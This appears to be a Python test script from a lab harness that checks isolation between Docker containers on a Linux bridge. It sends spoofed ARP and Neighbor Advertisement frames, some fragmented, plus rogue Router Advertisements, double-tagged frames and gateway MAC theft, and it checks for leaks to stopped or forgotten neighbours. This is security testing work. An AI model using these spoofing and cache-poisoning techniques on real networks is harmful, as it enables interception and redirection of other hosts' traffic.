#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Tries that need a moment: see bind_holes_life.sh.

usage: bind_holes_life.py TRY NAME MAC IPV4 IPV6 COMMAND...     COMMAND: frames.c at the port
"""
import os
import struct
import subprocess
import sys
import time

import packet as p
from bind_attack import BRIDGE, C2, DOCKSIDE, GATEWAY, GOOD, Lab, Witness
from bind_holes import LINK_LOCAL_GROUP, NA, RA, datagram, fdb, fragments, message, neighbour, run, seen


def stopped(lab):
    """Packets that come for a container that has just stopped."""
    for v in (4, 6):
        subprocess.run(["docker", "start", "c2"], capture_output=True, check=True)
        pid = run("docker", "inspect", "-f", "{{.State.Pid}}", "c2").strip()
        run("umount", "/run/netns/c2")
        run("mount", "--bind", f"/proc/{pid}/ns/net", "/run/netns/c2")
        time.sleep(3)
        victim, outside = datagram("c2", C2[v]), datagram("outside", GOOD[v], 53)
        victim.sendto(b"question", (GOOD[v], 53))
        _, back = outside.recvfrom(100)
        outside.sendto(b"first answer", back)
        victim.recv(100)
        victim.close()
        subprocess.run(["docker", "stop", "-t", "0", "c2"], capture_output=True, check=True)
        marker = lab.mark()
        lab.witness["c1"].forget()
        for _ in range(5):
            outside.sendto(marker, back)
            time.sleep(0.1)
        yield f"IPv{v}: answers to a neighbour that has stopped, read", seen(lab.witness["c1"], marker)
        outside.close()


def aged(lab):
    """Packets of the host to a neighbour whose MAC the bridge has forgotten."""
    for v in (4, 6):
        lab.heal()
        time.sleep(0.1)
        s = datagram("host", GATEWAY[v])
        s.sendto(b"first", (C2[v], 81))
        time.sleep(0.2)
        run("bridge", "fdb", "del", C2["mac"], "dev", fdb(C2["mac"]), "master")
        marker = lab.mark()
        lab.witness["c1"].forget()
        s.sendto(marker, (C2[v], 81))
        yield f"IPv{v}: the host to a neighbour whose entry is gone, read", seen(lab.witness["c1"], marker)


def gateway_theft(lab):
    before = fdb(lab.gateway_mac)
    lab.port.send(p.ether(lab.gateway_mac, LINK_LOCAL_GROUP % 14, bytes(60), 0x88CC))
    time.sleep(0.1)
    yield "the gateway's MAC is learned", int(fdb(lab.gateway_mac) != before)


def strange(lab):
    """From a port that is new, or whose container is not known, to c2."""
    me, mine, mine6, fe80 = lab.me["mac"], lab.me[4], lab.me[6], p.link_local(lab.me["mac"])
    host_fe80 = p.link_local(lab.gateway_mac)
    def na(source, target):
        return lambda m: p.ether(me, C2["mac"], p.icmp6(source, C2[6], NA, struct.pack("!I", 0x60000000) + p.packed(target) + p.own_link(2, me) + p.nd_option(m)))
    tries = {
        "EtherType 0x88b5": lambda m: p.ether(me, C2["mac"], m.ljust(60, b"\0"), 0x88B5),
        "two tags": lambda m: p.ether(me, C2["mac"], p.udp(mine, C2[4], (5000, 53), m), tags=[(0x8100, 0), (0x8100, 0)]),
        "RA": lambda m: p.ether(me, "33:33:00:00:00:01", p.icmp6(fe80, "ff02::1", RA, struct.pack("!BBHII", 64, 8, 0, 0, 0) + p.nd_option(m))),
        "ARP, nobody's address": lambda m: p.ether(me, C2["mac"], p.arp(2, (me, "172.30.1.78"), (C2["mac"], C2[4]), m), p.ARP),
        "ARP, an address of no network": lambda m: p.ether(me, C2["mac"], p.arp(2, (me, "10.66.0.1"), (C2["mac"], C2[4]), m), p.ARP),
        "NA, the gateway's fe80": na(host_fe80, host_fe80),
        "NA, an address of no network": na(fe80, "2001:db8:66::1"),
        "NA, dockside's": na(mine6, DOCKSIDE[6]),
        "ARP, dockside's": lambda m: p.ether(me, C2["mac"], p.arp(2, (me, DOCKSIDE[4]), (C2["mac"], C2[4]), m), p.ARP),
        "the gateway's MAC in ARP": lambda m: p.ether(lab.gateway_mac, C2["mac"], p.arp(2, (lab.gateway_mac, "172.30.1.79"), (C2["mac"], C2[4]), m), p.ARP),
    }
    for name, make in tries.items():
        yield name, lab.arrive(make, ["c2"])
    for name, claimed, right in (("gateway's", GATEWAY[6], lab.gateway_mac), ("dockside's", DOCKSIDE[6], DOCKSIDE["mac"])):
        run("ip", "-n", "c2", "-6", "neigh", "replace", claimed, "lladdr", right, "dev", "eth0", "nud", "reachable")
        for packet in fragments(message(mine6, C2[6], NA, struct.pack("!I", 0x60000000) + p.packed(claimed) + p.own_link(2, me)), 8, ident=lab.serial + 7):
            lab.port.send(p.ether(me, C2["mac"], packet))
        time.sleep(0.1)
        yield f"NA in fragments, {name}", int(neighbour("c2", claimed, "eth0") == me)
        lab.serial += 1
        run("ip", "-n", "c2", "-6", "neigh", "replace", claimed, "lladdr", right, "dev", "eth0", "nud", "reachable")


def main():
    which, name, ether, address, address6, *command = sys.argv[1:]
    lab = Lab(name, {"mac": ether, 4: address, 6: address6}, command, True)
    if name == "c1":
        lab.witness["c1"] = Witness("c1", "eth0")
    for what, count in globals()[which](lab):
        print(which, what, count, sep="\t", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
